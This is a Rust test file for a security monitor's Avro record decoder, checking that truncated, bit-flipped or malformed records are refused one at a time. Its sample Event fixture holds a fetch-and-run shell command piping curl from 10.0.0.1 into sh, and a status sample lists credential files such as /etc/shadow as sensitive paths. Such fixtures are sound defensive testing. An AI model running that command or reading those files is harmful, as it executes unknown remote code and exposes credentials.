//! Poisoned records: each costs itself only, whatever is wrong with it.

use crate::support::{CONTRACTS, Contract, contract, rows};
use dogwatch_schemas::decode::{BatchDecoder, DecodeError};
use dogwatch_schemas::framing::{self, FramingError};
use dogwatch_schemas::wire::WireError;
use serde_json::{Value as Json, json};

/// A record of each schema with texts, lists, maps and nested records in it, and one that holds little.
fn samples(contract: &Contract) -> [Json; 2] {
    let process = json!({"key": "00000000000000aa", "pid": 7, "name": "sh", "cmdline": "sh -c 'a long command line'"});
    let full = match contract.name {
        "Event" => json!({
            "host_id": "8f3c", "evt_type": "execve", "ts": 1_700_000_000_000_000_000_i64, "evt_failed": true,
            "proc_cmdline": "sh -c 'curl http://10.0.0.1/x | sh' größer", "proc_args": ["-c", "a rather long argument"],
            "proc_apid": [1, 300, -1], "container_labels": {"app": "web", "tier": "a value longer than a view"},
            "evt_losses": {"ring_full": 300}
        }),
        "Alert" => json!({
            "alert_id": "00112233445566778899aabbccddeeff", "attack": ["T1059.004"], "process": process,
            "ancestors": [process, {"key": "bb", "pid": 1}], "losses": {"ring_full": 1},
            "evidence": [{"topic": "dogwatch.events", "partition": 3, "offset": 1_i64 << 40, "row": "{\"a\":1}"}]
        }),
        "SensorStatus" => json!({
            "status": "loss", "losses": [{"class": "ring_full", "kind": "open", "count": 12, "detail": "a burst of opens"}],
            "losses_total": {"ring_full": 12}, "not_delivered": ["connect: the kernel has no such tracepoint"],
            "sensitive_read_paths": ["/etc/shadow", "*/.kube/config"]
        }),
        "ContainerSample" | "ProcessSample" | "SyscallSample" | "IoSample" => json!({
            "host_id": "8f3c", "evt_type": "mark", "ts": 1_700_000_000_000_000_000_i64, "host_tags": {"site": "berlin"},
            "container_image": "registry.example/a/long/name:1", "sample_interval_ns": 10_000_000_000_i64,
            "evt_losses": {"unsampled": 300}
        }),
        _ => json!({
            "container_id": "0123456789ab", "container_labels": {"app": "web"},
            "container_mounts": [{"type": "bind", "source": "/srv/data", "destination": "/data", "writable": true}]
        }),
    };
    let round_trip = |json| (contract.decode_framed)(&(contract.encode_framed)(&json)).unwrap();
    [round_trip(full), round_trip(json!({}))]
}

/// Pushes good, bad, good; returns the bad one's error after checking that it left no trace.
fn push_between(contract: &Contract, bad: &[u8]) -> Result<(), DecodeError> {
    let [first, last] = samples(contract);
    let mut decoder = BatchDecoder::new(contract.schema, None).unwrap();
    decoder.push(&(contract.encode_framed)(&first)).unwrap();
    let result = decoder.push(bad);
    decoder.push(&(contract.encode_framed)(&last)).unwrap();
    let batch = decoder.finish();
    for column in batch.columns() {
        column.to_data().validate_full().unwrap();
    }
    let rows = rows(&batch);
    assert_eq!((&rows[0], &rows[rows.len() - 1]), (&first, &last));
    assert_eq!(rows.len(), if result.is_ok() { 3 } else { 2 });
    result
}

#[test]
fn a_record_cut_anywhere_is_refused_alone() {
    for contract in &CONTRACTS {
        let whole = (contract.encode_framed)(&samples(contract)[0]);
        for len in 0..whole.len() {
            let error = push_between(contract, &whole[..len]).unwrap_err();
            assert_eq!(
                matches!(error, DecodeError::Framing(FramingError::Short { .. })),
                len < 10,
                "{error}"
            );
        }
    }
}

#[test]
fn a_flipped_bit_anywhere_costs_at_most_its_record() {
    for contract in &CONTRACTS {
        let whole = (contract.encode_framed)(&samples(contract)[0]);
        for bit in 0..whole.len() * 8 {
            let mut flipped = whole.clone();
            flipped[bit / 8] ^= 1 << (bit % 8);
            let pushed = push_between(contract, &flipped);
            match bit / 8 {
                0..2 => assert!(matches!(pushed, Err(DecodeError::Framing(_)))),
                2..10 => assert!(matches!(pushed, Err(DecodeError::UnknownSchema(_)))),
                _ => {
                    let row_wise = (contract.decode_framed)(&flipped);
                    assert_eq!(
                        row_wise.is_ok(),
                        pushed.is_ok(),
                        "{}: bit {bit}",
                        contract.name
                    );
                }
            }
        }
    }
}

#[test]
fn bytes_after_the_end_are_an_error() {
    for contract in &CONTRACTS {
        let mut long = (contract.encode_framed)(&samples(contract)[0]);
        long.push(0);
        assert_eq!(
            push_between(contract, &long),
            Err(DecodeError::Record(WireError::Trailing(1)))
        );
    }
}

/// Decodes bytes as the one field of a record.
fn read_as(field_type: Json, datum: &[u8]) -> Result<Json, DecodeError> {
    let schema =
        json!({"type": "record", "name": "R", "fields": [{"name": "f", "type": field_type}]})
            .to_string();
    let mut decoder = BatchDecoder::new(&schema, None).unwrap();
    let mut skipping = BatchDecoder::new(&schema, Some(&[])).unwrap();
    let mut framed = Vec::new();
    framing::write_header(decoder.register(&schema).unwrap(), &mut framed);
    framed.extend_from_slice(datum);
    let read = decoder.push(&framed);
    // A text that is skipped is not checked; all else is.
    if !matches!(
        read,
        Err(DecodeError::Field {
            error: WireError::NotUtf8,
            ..
        })
    ) {
        assert_eq!(skipping.push(&framed), read);
    }
    read?;
    Ok(rows(&decoder.finish())[0]["f"].clone())
}

/// A long in Avro's form.
fn long(value: i64) -> Vec<u8> {
    let mut out = Vec::new();
    dogwatch_schemas::wire::Datum::write(&value, &mut out);
    out
}

#[test]
fn hostile_lengths_and_counts_are_refused_before_anything_is_allocated() {
    let field = |error| {
        Err(DecodeError::Field {
            field: "f".to_owned(),
            error,
        })
    };
    let (list, map) = (
        json!({"type": "array", "items": "long"}),
        json!({"type": "map", "values": "long"}),
    );
    for claimed in [i64::MAX, i64::MIN, -1, 1 << 40, 2] {
        assert_eq!(
            read_as(json!("string"), &[long(claimed), vec![0]].concat()),
            field(WireError::Length(claimed))
        );
    }
    for collection in [list, map] {
        for claimed in [i64::MAX, 1 << 40, 2] {
            let bytes = [long(claimed), vec![0]].concat();
            assert_eq!(
                read_as(collection.clone(), &bytes),
                field(WireError::Block(claimed))
            );
        }
        for claimed in [i64::MIN, -i64::MAX, -2] {
            let bytes = [long(claimed), long(1), vec![0]].concat();
            assert_eq!(
                read_as(collection.clone(), &bytes),
                field(WireError::Block(claimed))
            );
        }
    }
    let overlong = [0xff; 9].into_iter().chain([2]).collect::<Vec<_>>();
    assert_eq!(
        read_as(json!("long"), &overlong),
        field(WireError::Overlong)
    );
    assert_eq!(
        read_as(json!("long"), &[0x80; 11]),
        field(WireError::Overlong)
    );
    assert_eq!(
        read_as(json!("boolean"), &[2]),
        field(WireError::Boolean(2))
    );
    assert_eq!(
        read_as(json!(["null", "long"]), &[4]),
        field(WireError::Branch(2))
    );
    assert_eq!(
        read_as(json!("string"), &[4, 0xc3, 0x28]),
        field(WireError::NotUtf8)
    );
}

#[test]
fn blocks_may_come_in_pieces_and_with_their_size() {
    let list = json!({"type": "array", "items": "long"});
    let pieces = [
        long(1),
        long(5),
        long(-2),
        long(2),
        long(6),
        long(7),
        long(0),
    ]
    .concat();
    assert_eq!(read_as(list, &pieces), Ok(json!([5, 6, 7])));
    let map = json!({"type": "map", "values": "long"});
    let pieces = [
        long(-1),
        long(3),
        long(1),
        vec![b'a'],
        long(1),
        long(1),
        long(1),
        vec![b'b'],
        long(2),
        long(0),
    ];
    assert_eq!(read_as(map, &pieces.concat()), Ok(json!({"a": 1, "b": 2})));
}

#[test]
fn the_integers_at_the_limits_are_read() {
    for value in [i64::MIN, i64::MIN + 1, -65, -64, -1, 0, 63, 64, i64::MAX] {
        assert_eq!(read_as(json!("long"), &long(value)), Ok(json!(value)));
    }
}

#[test]
fn an_error_names_the_field() {
    let event = contract("Event");
    let mut framed = (event.encode_framed)(&json!({}));
    framed[10] = 0x7f;
    let error = push_between(event, &framed).unwrap_err();
    assert_eq!(
        error.to_string(),
        "could not read field host_id: length -64 is negative or more than the bytes left"
    );
}
